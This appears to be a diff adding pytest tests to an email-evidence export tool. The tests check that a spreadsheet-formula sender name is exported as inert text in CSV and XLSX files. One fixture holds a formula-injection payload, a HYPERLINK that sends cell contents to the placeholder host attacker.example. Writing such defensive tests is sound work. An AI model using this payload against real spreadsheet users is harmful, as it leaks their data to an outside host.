@@ -104,3 +104,64 @@ def test_the_evidence_export_leaves_out_personal_data_unless_asked(
     assert answered["answered_at"] == "2026-10-12T16:00:00+02:00"
     with_names = json.loads(full.read_text(encoding="utf-8"))
     assert {r["reply_from_name"] for r in with_names} == {"Karin Berg", None}
+
+
+# A municipality's reply whose sender name is a spreadsheet formula (issue 15, M4).
+HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Klicka här")'
+
+
+@pytest.fixture
+def hostile_config(tmp_path: Path, sqlite_engine: Engine) -> Path:
+    path = tmp_path / "config.toml"
+    path.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
+    answered = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
+    store = MailStore(sqlite_engine, SystemClock(), TimingRules())
+    monday = FRIDAY_1600 + timedelta(days=3)
+    quoted = HOSTILE_NAME.replace("\\", "\\\\").replace('"', '\\"')
+    raw = reply_to(answered, written_at=monday).replace(
+        b"From: Karin Berg <", f'From: "{quoted}" <'.encode()
+    )
+    store.ingest("INBOX", 1, FetchedMessage(1, monday, None, raw))
+    return path
+
+
+def test_a_formula_in_a_reply_sender_stays_text_in_the_csv(
+    kkik, hostile_config: Path, tmp_path: Path
+):
+    out = tmp_path / "evidence.csv"
+    result = kkik("--config", str(hostile_config), "export", "--format", "csv", "--evidence",
+                  "--include-personal-data", "--out", str(out))  # fmt: skip
+    assert result.code == 0, result.err
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert rows[0]["reply_from_name"] == "'" + HOSTILE_NAME
+    assert rows[0]["probe_id"] == "1"  # numbers stay as they were
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+
+
+def test_a_formula_in_a_reply_sender_stays_text_in_the_xlsx(
+    kkik, hostile_config: Path, tmp_path: Path
+):
+    out = tmp_path / "evidence.xlsx"
+    result = kkik("--config", str(hostile_config), "export", "--format", "xlsx", "--evidence",
+                  "--include-personal-data", "--out", str(out))  # fmt: skip
+    assert result.code == 0, result.err
+    sheet = openpyxl.load_workbook(out).active
+    assert sheet is not None
+    header = [c.value for c in sheet[1]]
+    name = sheet.cell(row=2, column=header.index("reply_from_name") + 1)
+    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE_NAME, "s", True)
+    probe_id = sheet.cell(row=2, column=header.index("probe_id") + 1)
+    assert (probe_id.value, probe_id.data_type) == (1, "n")
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_it_names_an_output_file_it_cannot_write(kkik, config: Path, tmp_path: Path):
+    out = tmp_path / "saknas" / "kkik.csv"
+    result = kkik(
+        "--lang", "en", "--config", str(config), "export", "--format", "csv", "--out", str(out)
+    )  # fmt: skip
+    assert (result.code, result.out) == (2, "")
+    assert result.err == f"{out}: cannot be written (No such file or directory)\n"
